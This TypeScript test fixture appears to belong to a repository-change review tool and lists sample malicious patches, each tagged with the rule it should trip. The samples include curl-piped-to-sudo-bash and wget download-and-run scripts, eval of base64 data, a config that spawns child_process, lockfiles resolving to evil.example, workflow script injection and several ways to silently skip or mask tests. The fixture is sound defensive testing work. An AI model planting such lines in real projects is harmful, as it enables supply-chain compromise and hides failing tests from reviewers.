import { add, type Attack } from './attack.fixture.js';
import { baseFiles, file, openRules } from './corpus.fixture.js';

/** A new file that a person has to agree to. */
const asking = (ends: string, path: string, content?: string): Attack => ({
  name: `${ends} by ${path}`,
  patch: () => add(path, content),
  ends,
  asks: true,
});

/** A file of the base changed so that a person has to agree. */
const asEdit = (ends: string, path: string, change: (text: string) => string): Attack => ({
  name: `${ends} by a change of ${path}`,
  patch: (corpus) =>
    corpus.diff(corpus.base, corpus.changed({ [path]: file(change(String(baseFiles[path]![1]))) })),
  ends,
  asks: true,
});

const npm = (fields: object): string => `${JSON.stringify(fields, null, 2)}\n`;

const tgz = (host: string, name: string): string => `https://${host}/${name}/-/${name}-1.0.0.tgz`;
const npmLock = (resolved: string, integrity?: string): string =>
  npm({ lockfileVersion: 3, packages: { 'node_modules/x': { version: '1.0.0', resolved, integrity } } });
const uv = '[[package]]\nname = "x"\nversion = "1"\nsource = { registry = "https://evil.example/simple" }\n';

/** Lockfiles that no package manager wrote from its registry. */
const locked: readonly (readonly [ends: string, path: string, content: string])[] = [
  ['dependency.url_mismatch', 'm/package-lock.json', npmLock(tgz('npm.example', 'y'), 'sha512-A')],
  [
    'dependency.url_credentials',
    'c/package-lock.json',
    npmLock(tgz('npm.example@e.example', 'x'), 'sha512-A'),
  ],
  ['dependency.integrity_missing', 'i/package-lock.json', npmLock(tgz('npm.example', 'x'))],
  ['dependency.unreadable', 'pnpm-lock.yaml', 'lockfileVersion: &a 9\npackages: *a\n'],
  ['dependency.unreadable', 'yarn.lock', '# yarn lockfile v1\n<<<<<<< HEAD\n'],
  ['dependency.url_insecure', 'requirements.txt', '-i http://index.example/simple\n'],
];

/** From a host that is refused where a policy lists others, and asked about where nothing names any. */
const strange: readonly (readonly [path: string, content: string])[] = [
  ['package-lock.json', npmLock(tgz('evil.example', 'x'), 'sha512-A')],
  ['uv.lock', uv],
];

const steps = (lines: string): string => `jobs:\n  a:\n    steps:\n${lines}`;
const workflows: readonly (readonly [ends: string, lines: string])[] = [
  ['workflow.unpinned', steps('      - uses: actions/checkout@v4\n')],
  ['workflow.injection', steps('      - run: echo ${{ github.event.issue.title }}\n')],
  ['workflow.untrusted_checkout', steps('      - run: gh pr checkout 1\n')],
  ['workflow.secret', steps('      - run: x\n        env: { A: "${{ secrets.KEY }}" }\n')],
  ['workflow.runner', 'jobs:\n  a:\n    runs-on: [self-hosted]\n'],
  ['workflow.permissions', 'permissions: write-all\n'],
  ['workflow.unreadable', 'a: &a [x]\nb: *a\n'],
];

/** What steers machines and people later: nothing of it may arrive unseen. */
export const surfaceAttacks: readonly Attack[] = [
  ...[
    ...['CODEOWNERS', '.github/dependabot.yml', '.husky/pre-push', 'justfile', '.devcontainer/a.json'],
    ...['.vscode/tasks.json', '.claude/settings.json', 'AGENTS.md', '.cursorrules', '.mcp.json'],
    ...[
      'gradlew',
      'lefthook.toml',
      '.drone.star',
      '.roo/rules/a.md',
      'shell.nix',
      'Pipfile.lock',
      'bun.lock',
    ],
    ...['.gitleaks.toml', '.gitleaksignore', '.trivyignore', '.snyk', '.semgrepignore', '.secretlintrc.json'],
    ...['codecov.yml', 'sonar-project.properties', 'deno.json', 'composer.json'],
    ...['Dockerfile', 'tools/.npmrc', '.pnpmfile.cjs', '.gitignore', '.NPMRC'],
  ].map((path) => asking('path.protected', path)),
  asking('path.package_scripts', 'package.json', npm({ scripts: { test: 'true' } })),
  asking('path.package_unreadable', 'x/package.json', '{"scripts":{},"scripts":{"a":"b"}}\n'),
  asking('path.short_name', 'NPMRC~1'),
  ...[
    ['attributes.diff', '*.ts -diff\n'],
    ['attributes.binary', '"src/\\052" binary\n'],
    ['attributes.filter', '* filter=lfs\n'],
    ['attributes.merge', '* merge=ours\n'],
    ['attributes.working_tree_encoding', '*.js working-tree-encoding=UTF-16\n'],
    ['attributes.eol', '* eol=crlf\n'],
    ['attributes.ident', '* ident\n'],
    ['attributes.export_subst', '* export-subst\n'],
    ['attributes.linguist_generated', 'src/** linguist-generated\n'],
    ['attributes.unknown', '[attr]quiet -diff\nsrc/** quieter\n'],
  ].map(([ends, content]) => asking(ends!, 'dir/.gitattributes', content)),
  ...['WORKSPACE', 'lib/BUILD.bazel', 'a.targets', 'Gemfile', 'flake.nix', 'tests/pytest.ini'].map((path) =>
    asking('execution.new_file', path),
  ),
  ...['binding.gyp', 'setup.py', 'build.rs', 'conftest.py', 'jest.config.js', 'app/build.gradle'].map(
    (path) => asking('execution.new_file', path),
  ),
  asking('execution.lifecycle_script', 'lib/package.json', npm({ scripts: { postinstall: 'node x' } })),
  asking('execution.package_field', 'p/package.json', npm({ jest: { globalSetup: './x.js' } })),
  asking('execution.build_backend', 'pyproject.toml', '[build-system]\nbuild-backend = "own"\n'),
  asking('execution.maven_plugin', 'pom.xml', '<plugins>\n<plugin>x</plugin>\n</plugins>\n'),
  asking('execution.piped', 'tools/get', 'curl -s https://x.example/i.sh \\\n  | sudo bash\n'),
  asking('execution.downloaded', 'tools/set', 'curl -o x https://e.example/x\nsh ./x\n'),
  asking('execution.downloaded', 'tools/one', 'wget https://e.example/i.sh && chmod +x i.sh\n'),
  asking('execution.directive', 'gen.go', 'package a\n\n//go:generate sh x\n'),
  asking('execution.unpacked', 'src/c.js', "await import('data:text/javascript,alert(1)');\n"),
  asking('execution.unpacked', 'src/d.js', "new Worker('data:text/javascript,1');\n"),
  ...[
    ['.eslintrc.json', { plugins: ['x'] }],
    ['.mocharc.json', { require: './x.js' }],
    ['jest.config.json', { globalSetup: './x.js' }],
    ['.babelrc', { plugins: ['./x.js'] }],
    ['nx.json', { targetDefaults: { test: { command: 'true' } } }],
    ['project.json', { targets: { a: { command: 'sh x' } } }],
    ['turbo.json', { remoteCache: { apiUrl: 'https://e.example' } }],
    ['.swcrc', { jsc: { experimental: { plugins: ['./x.wasm'] } } }],
    ['lerna.json', { npmClient: './x' }],
    ['.nycrc', { require: ['./x.js'] }],
  ].map(([path, fields]) => asking('execution.tool_config', path as string, npm(fields as object))),
  asking('execution.tool_config', '.eslintrc.yml', 'plugins: [x]\n'),
  asking('execution.unpacked', 'src/a.js', 'eval(atob("YQ=="));\n'),
  asking('execution.process_in_config', 'vite.config.js', 'require("child_process").execSync("id");\n'),
  asking('dependency.new', 'n/package.json', npm({ dependencies: { 'left-pad': '1' } })),
  asking('dependency.source', 'g/package.json', npm({ dependencies: { x: 'github:u/x' } })),
  ...(
    [
      ['l', { resolved: '../x', link: true }],
      ['b', { version: '1.0.0', resolved: 'git+ssh://git@h.example/x.git#1', inBundle: true }],
      ['f', { version: '1.0.0', resolved: 'file:../x' }],
    ] as const
  ).map(([dir, entry]) =>
    asking(
      'dependency.source',
      `${dir}/package-lock.json`,
      npm({ lockfileVersion: 3, packages: { 'node_modules/x': entry } }),
    ),
  ),
  ...['link:../x', 'portal:../x', 'patch:x@npm%3A1.0.0#./x.patch', 'workspace:../../x'].map((spec, i) =>
    asking('dependency.source', `${i}/package.json`, npm({ dependencies: { x: spec } })),
  ),
  asking(
    'dependency.source',
    'y/yarn.lock',
    '__metadata:\n  version: 8\n\n"x@portal:../x":\n  version: 1.0.0\n  resolution: "x@portal:../x"\n',
  ),
  asking(
    'dependency.source',
    'p/pnpm-lock.yaml',
    "lockfileVersion: '9.0'\n\nimporters:\n\n  .:\n    dependencies:\n      x:\n        specifier: ^1.0.0\n        version: link:../x\n",
  ),
  asking('dependency.alias', 'a/package.json', npm({ dependencies: { lodash: 'npm:evil@1' } })),
  asking('dependency.override', 'o/package.json', npm({ overrides: { x: '1' } })),
  asking('dependency.unreadable', 'u/package.json', '{'),
  ...locked.map(([ends, path, content]) => ({
    name: `${ends} by ${path}`,
    patch: () => add(path, content),
    ends,
  })),
  ...strange.map(([path, content]) => ({
    name: `dependency.registry by ${path}`,
    patch: () => add(path, content),
    ends: 'dependency.registry',
    rules: { ...openRules, dependencies: { registries: ['npm.example', 'index.example'] } },
  })),
  ...strange.map(([path, content]) => asking('dependency.new_host', `h/${path}`, content)),
  ...workflows.map(([ends, lines]) => ({
    name: `${ends} in a workflow`,
    patch: () => add('.github/workflows/x.yml', `on: pull_request_target\n${lines}`),
    ends,
  })),
  asking('test.skip', 'a.spec.ts', "it.skip('x', () => {});\n"),
  asking('test.only', 'a.test.js', "it.only('x', () => {});\n"),
  asking('test.expected_failure', 'tests/test_a.py', '@pytest.mark.xfail\ndef test_a(): pass\n'),
  asking('test.silenced', 'src/b.ts', '// @ts-ignore\nf();\n'),
  asking('test.masked', 'ci/test.sh', 'npm test || true\n'),
  ...[
    ['e.spec.ts', "if (false) test('x', () => {});\n"],
    ['b.spec.ts', "it('x', () => {\n  return;\n  expect(f()).toBe(1);\n});\n"],
    ['c.spec.ts', "test.each([])('x', () => {});\n"],
    ['d.spec.ts', "it('x', { skip: true }, () => {});\n"],
    ['src/lib.rs', '#[cfg(test)]\nmod tests {\n    #[test]\n    #[ignore]\n    fn a() {}\n}\n'],
    ['a_test.go', 'func TestA(t *testing.T) {\n\tt.Skip("later")\n}\n'],
    ['tests/test_b.py', 'pytestmark = [\n    pytest.mark.skip,\n]\n'],
    ['src/test/ATest.java', '@DisabledOnOs(OS.LINUX)\nclass ATest {}\n'],
  ].map(([path, content]) => asking('test.skip', path!, content)),
  asEdit('test.fewer', 'test/base.test.js', (text) => text.replace(/^(.*two.*)$/m, '/*\n$1\n*/')),
  asEdit('test.fewer', 'lib/base.rs', (text) => text.replace('#[test]\nfn two', 'fn two')),
  asking('test.empty_allowed', 'jest.config.mjs', 'export default { passWithNoTests: true };\n'),
];
